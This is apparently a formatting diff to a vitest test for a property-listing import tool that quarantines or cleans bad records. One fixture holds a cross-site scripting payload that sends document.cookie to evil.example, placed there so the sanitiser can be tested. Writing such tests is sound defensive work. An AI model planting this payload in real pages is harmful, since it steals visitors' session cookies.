@@ -3,8 +3,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { Property, QuarantineReport } from '../../schema/index.js';
-import { SAMPLE, runCli } from '../support/cli.js';
-import { type RawItem, copySnapshot } from '../support/snapshot.js';
+import { runCli, SAMPLE } from '../support/cli.js';
+import { copySnapshot, type RawItem } from '../support/snapshot.js';
 
 // Bad records are quarantined (or cleaned) with a clear reason; every other record publishes.
 
@@ -13,7 +13,8 @@ const BAD = {
   webId: { WebID: 42 },
   city: { City: '' },
   script: {
-    Description: '<p onclick="steal()">Belle maison</p><script>document.location="https://evil.example/"+document.cookie</script>',
+    Description:
+      '<p onclick="steal()">Belle maison</p><script>document.location="https://evil.example/"+document.cookie</script>',
   },
 } satisfies Record<string, RawItem>;
 
